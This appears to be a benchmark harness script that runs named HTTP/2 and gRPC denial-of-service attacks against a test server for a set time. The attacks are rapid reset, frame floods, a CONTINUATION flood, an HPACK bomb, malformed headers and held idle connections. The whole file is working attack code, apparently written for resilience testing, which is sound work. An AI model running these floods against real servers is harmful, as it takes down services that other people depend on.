"""A hostile client as a process: `python attacker.py ATTACK HOST PORT SECONDS`.

Each attack works on four connections until they are cut or blocked, and then begins anew on others,
as fast as it can, until the time is over. Prints how many connections that took.
"""

import contextlib
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial

import hpack

from bench.hostile import (
    ALL_WINDOW,
    CONTINUATION,
    DATA,
    END,
    END_HEADERS,
    GARBAGE,
    HEADERS,
    HELLO,
    PING,
    PREFACE,
    SETTINGS,
    WIDE,
    WINDOW,
    http2,
    rapid_reset,
    request,
)

MANY = 2000
HELD = 300
CROWD = 4


def block(path: str, *more: tuple[str, str]) -> bytes:
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "x"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *more,
    ]
    return hpack.Encoder().encode(fields)


# One entry of 4 kB in the table, and a byte for each further use of it.
BOMB = hpack.Encoder().encode([("a" * 10, "b" * 4000)]) + b"\xbe" * 12000
STREAMS = range(1, 2 * MANY, 2)
FLOODS: dict[str, list[bytes]] = {
    "rapid reset": [HELLO + rapid_reset("/t.T/Sleep", MANY)],
    "streams past the limit": [HELLO + b"".join(request(each, "/t.T/Sleep") for each in STREAMS)],
    "ping": [HELLO, *[http2(PING, 0, 0, bytes(8)) * MANY] * 20],
    "ping answers": [HELLO, *[http2(PING, 1, 0, bytes(8)) * MANY] * 20],
    "settings": [HELLO, *[http2(SETTINGS, 0, 0) * MANY] * 20],
    "changing settings": [HELLO, *[http2(SETTINGS, 0, 0, struct.pack(">HI", 4, 9)) * MANY] * 20],
    "window updates": [HELLO, *[http2(WINDOW, 0, 0, b"\0\0\0\1") * MANY] * 200],
    "unknown frames": [HELLO, *[http2(0xBB, 0, 0, b"x") * MANY] * 20],
    "continuation": [
        HELLO + http2(HEADERS, 0, 1, block("/t.T/Echo")),
        *[http2(CONTINUATION, 0, 1, b"\0\1a\1b" * 3000) * 20] * 20,
    ],
    "hpack bomb": [
        HELLO + http2(HEADERS, END_HEADERS, 1, BOMB)
    ],
    "long headers": [
        HELLO + http2(HEADERS, 0, 1, block("/t.T/Echo")),
        *[http2(CONTINUATION, 0, 1, b"\0\x01x\x7f\xf1\x1e" + bytes(4000)) * 20] * 10,
    ],
    "tiny data": [
        HELLO + http2(HEADERS, END_HEADERS, 1, block("/t.T/Echo")),
        http2(DATA, 0, 1, b"\0\0\x3f\0\0"),
        *[http2(DATA, 0, 1, b"x") * MANY] * 20,
    ],
    "a giant message": [
        HELLO + http2(HEADERS, END_HEADERS, 1, block("/t.T/Echo"))
        + http2(DATA, 0, 1, b"\0\x40\0\0\0") + http2(DATA, 0, 1, bytes(16_000)) * 4
    ],
    "odd headers": [HELLO + http2(HEADERS, END_HEADERS | END, 1, b"\0\1\xff\2\0\r")],
    "no pseudo-headers": [HELLO + http2(HEADERS, END_HEADERS | END, 1, b"\0\1a\1b")],
    "garbage": [GARBAGE],
}  # fmt: skip


def hang_up(address: tuple[str, int]) -> None:
    """Say hello and go."""
    with socket.create_connection(address) as sock:
        sock.sendall(HELLO)


def flood(address: tuple[str, int], pieces: list[bytes]) -> None:
    """Send all, and stay until cut off, or blocked or left without a word for a moment.

    Who hangs up at once is easy to deal with: the server need not look at what it sent.
    """
    with socket.create_connection(address) as sock:
        sock.settimeout(0.2)
        with contextlib.suppress(OSError):
            for piece in pieces:
                sock.sendall(piece)
            while sock.recv(1 << 16):
                pass


@contextlib.contextmanager
def held(address: tuple[str, int], count: int, hello: bytes) -> Iterator[None]:
    """Hold many connections that have said so much and no more."""
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            sock = stack.enter_context(socket.create_connection(address))
            sock.sendall(hello)
        yield


HOLDS: dict[str, tuple[int, bytes]] = {
    "silence": (HELD, b""),
    "half a preface": (HELD, PREFACE[:10]),
    "idle": (HELD, HELLO),
    "never reading": (
        5, WIDE + ALL_WINDOW + b"".join(request(each, "/t.T/Endless") for each in range(1, 21, 2))
    ),
    "half a request": (HELD, HELLO + http2(HEADERS, END_HEADERS, 1, block("/t.T/Echo"))),
}  # fmt: skip


def attack(name: str, address: tuple[str, int], until: float) -> int:
    if name in HOLDS:
        count, hello = HOLDS[name]
        with held(address, count, hello):
            time.sleep(max(0.0, until - time.monotonic()))
        return count
    work: Callable[[], None] = partial(hang_up, address)
    if name in FLOODS:
        work = partial(flood, address, FLOODS[name])

    def repeat(_: int) -> int:
        count = 0
        while time.monotonic() < until:
            with contextlib.suppress(OSError):
                work()
            count += 1
        return count

    with ThreadPoolExecutor(CROWD) as crowd:
        return sum(crowd.map(repeat, range(CROWD)))


if __name__ == "__main__":
    print("ready", flush=True)
    sys.stdin.readline()
    end = time.monotonic() + float(sys.argv[4])
    print(attack(sys.argv[1], (sys.argv[2], int(sys.argv[3])), end), flush=True)
